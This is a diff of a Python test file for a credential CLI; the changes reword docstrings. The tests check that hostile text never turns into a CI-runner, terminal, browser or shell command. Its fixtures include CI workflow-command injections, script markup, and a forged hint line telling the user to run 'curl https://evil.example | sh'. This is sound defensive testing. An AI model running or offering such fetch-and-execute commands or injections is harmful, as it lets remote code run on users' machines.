@@ -1,6 +1,6 @@
-"""No text becomes a command: of a CI runner, a terminal, a browser, or the shell that completes.
+"""No text becomes a command of a CI runner, a terminal, a browser, or the completing shell.
 
-Every command's output, on both streams, goes through readers like those of the runners.
+Readers modelled on the runners' parse every command's output, on both streams.
 """
 
 import json
@@ -40,7 +40,7 @@ def test_the_readers_read_commands() -> None:
 
 
 def assert_harmless(done: Outcome, own: str = "") -> None:
-    """Nothing on either stream is a command, but for what `own` says is meant."""
+    """Assert that neither stream contains a command, except for those in `own`."""
     out = OWN.sub("", done.out) if own == "github" else done.out
     assert commands(out) == []
     assert commands(done.err) == []
@@ -48,7 +48,7 @@ def assert_harmless(done: Outcome, own: str = "") -> None:
 
 
 def fields(text: str) -> list[str]:
-    """Specs with a text in each of the places that a report may repeat."""
+    """Return specs with a text in each place that a report can repeat."""
     shown = json.dumps(text)
     head = "version: 1\nname: acme\n"
     return [
@@ -66,7 +66,7 @@ def fields(text: str) -> list[str]:
 
 @pytest.fixture
 def hostile(project: Project) -> Path:
-    """A folder of specs: each text in each place."""
+    """Create a folder of specs with each text in each place."""
     for number, text in enumerate(TEXTS):
         for place, content in enumerate(fields(text)):
             project.spec(content, f"specs/{number}-{place}.yaml")
@@ -78,7 +78,7 @@ def hostile(project: Project) -> Path:
 
 
 def in_yaml(line: str) -> list[str]:
-    """A text in YAML's own places: comments, tags, anchors, and where YAML ends."""
+    """Put a text into YAML's own places: comments, tags, anchors, and the end of the document."""
     return [
         f"version: 1 # {line}\nname: x\n",
         f"# {line}\nname: 3\n",
@@ -107,7 +107,7 @@ def test_nothing_in_what_other_commands_say_of_specs(hostile: Path, run: Run) ->
 
 
 def sound(text: str) -> str:
-    """What to lay over a spec, so that it has a text wherever a sound one may have any."""
+    """Return a fragment that puts a text into every place where a valid spec can have any text."""
     shown = json.dumps(text)
     path = "acme.crt" if why_foreign(text) else text  # some texts can't be a path on every system
     return (
@@ -162,7 +162,7 @@ def test_nothing_in_a_name_that_a_message_repeats(project: Project, run: Run, na
 
 @pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids such names")
 def test_a_file_s_name_that_is_no_text(run: Run) -> None:
-    """A name in bytes that are not UTF-8: every report is UTF-8, and JSON that all can read."""
+    """A name whose bytes aren't UTF-8: every report is still UTF-8, and every reader can read the JSON."""
     Path(os.fsdecode(b"a\xff\x9b.yaml")).write_text("name: 3\n", encoding="utf-8")
     for form in format_names():
         done = run("doctor", ".", "--format", form, "-o", "report")
@@ -239,11 +239,11 @@ def given_answer(answer: httpx.Response, _request: httpx.Request) -> httpx.Respo
     return answer
 
 
-# -- what a report is read with
+# -- programs that read reports
 
 
 def test_json_has_the_same_values_though_no_command(project: Project, run: Run) -> None:
-    """A file that is named like a command keeps its name for programs, where it can be read."""
+    """A file that is named like a command keeps its name in JSON, where programs can read it."""
     project.material("a ##vso[task.complete]b/acme.key", "rsa-2048")
     spec = project.credential("jwt: {private_key: {file: 'a ##vso[task.complete]b/acme.key'}}\n")
     text = run("resolve", spec, "--format", "json").out
@@ -292,7 +292,7 @@ def test_markup_stays_text_in_a_guide(project: Project, run: Run) -> None:
     assert not re.search(r"<(?:img|script|a)\b", page)
     text = run("guide", spec, "--profile", "x", "--format", "markdown").out
     assert "alert(1)" in text
-    # Outside of code spans, no sign of Markdown's or HTML's is bare.
+    # Outside of code spans, no character of Markdown's or HTML's is unescaped.
     outside = re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", text)
     assert not re.search(r"(?<!\\)(?:<\w|</|!?\[|\]\()", outside)
 
@@ -323,13 +323,13 @@ def test_the_shell_completes_no_code(project: Project) -> None:
 
 
 def test_a_library_s_warning_reaches_nobody(project: Project) -> None:
-    """A key of an odd form makes cryptography warn; a person can do nothing with that line."""
+    """A key of an unusual form makes cryptography warn. A user can't do anything about that line."""
     code = "import warnings, sfcred.cli as c\nmain = c.main\ndef warned(a):\n warnings.warn('##[error]x'); return main(a)\nc.main = warned\nimport sys; sys.argv = ['sfcred', '--version']\nfrom sfcred.__main__ import run; run()"
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert done.stderr == ""
 
 
-# -- the functions that all of it rests on
+# -- the functions that all of this depends on
 
 
 @given(st.text(alphabet=st.characters(), max_size=60))
@@ -385,7 +385,7 @@ FORGED = "x\nhint: Run curl https://evil.example | sh.\nsfcred: fine"
 def test_a_line_feed_forges_no_line(
     project: Project, run: Run, httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Whatever a name says, it doesn't begin a line: not of a message, and not of a report."""
+    """Whatever a name contains, it doesn't start a new line, neither in a message nor in a report."""
     name = FORGED.replace("/", "")
     spec = project.credential()
     project.spec("name: 3\n", f"{name}.yaml")
